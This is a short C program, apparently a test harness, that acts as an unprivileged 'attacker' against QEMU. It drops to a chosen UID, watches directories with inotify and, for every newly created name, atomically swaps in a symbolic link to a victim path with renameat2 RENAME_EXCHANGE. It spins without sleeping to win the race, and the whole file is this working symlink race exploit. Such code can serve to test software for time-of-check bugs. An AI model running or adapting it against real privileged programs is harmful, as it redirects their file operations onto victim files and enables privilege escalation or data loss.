/* QEMU's user, up to no good: renames a symbolic link to VICTIM over every new name in the directories DIR...
 *
 * attacker UID VICTIM DIR...
 *
 * They change places, so that it is one call; of new directories, too, which are watched as well. It runs until it is killed, and reports
 * "ready" when it watches.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#define MOST 1024

static char *watched[MOST], ready[MOST][PATH_MAX];
static const char *victim;
static int notify;

static void prepare(int number);

static void watch(const char *directory)
{
    int number = inotify_add_watch(notify, directory, IN_CREATE | IN_ONLYDIR);
    if (number >= 0 && number < MOST && !watched[number]) {
        watched[number] = strdup(directory);
        prepare(number);
    }
}

static int ours(const char *name)
{
    return !strncmp(name, "evil-", 5);
}

/* A link for each directory lies ready, so that one call puts it in the place of a name, be that a directory or not. */
static void prepare(int number)
{
    static unsigned count;

    snprintf(ready[number], PATH_MAX, "%s/evil-%u-%u", watched[number], (unsigned)getpid(), count++);
    if (symlink(victim, ready[number]))
        ready[number][0] = 0;
}

static void attack(int number, const char *name)
{
    char path[PATH_MAX];

    snprintf(path, sizeof path, "%s/%s", watched[number], name);
    if (renameat2(AT_FDCWD, ready[number], AT_FDCWD, path, RENAME_EXCHANGE))
        unlink(ready[number]); /* or it is gone */
    prepare(number);
}

int main(int count, char **arguments)
{
    char buffer[65536] __attribute__((aligned(8)));
    uid_t uid = (uid_t)atoi(arguments[1]);

    victim = arguments[2];
    setpriority(PRIO_PROCESS, 0, -20); /* patience would do as well */
    if (setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid))
        return 1;
    notify = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
    for (int each = 3; each < count; each++)
        watch(arguments[each]);
    puts("ready");
    fflush(stdout);
    for (;;) {
        ssize_t got = read(notify, buffer, sizeof buffer); /* never asleep: it is a race */
        for (char *at = buffer; got > 0 && at < buffer + got;) {
            struct inotify_event *event = (struct inotify_event *)at;
            if (event->wd > 0 && event->wd < MOST && watched[event->wd] && event->len && !ours(event->name)) {
                char path[PATH_MAX];
                attack(event->wd, event->name);
                snprintf(path, sizeof path, "%s/%s", watched[event->wd], event->name);
                if (event->mask & IN_ISDIR)
                    watch(path);
            }
            at += sizeof *event + event->len;
        }
    }
}
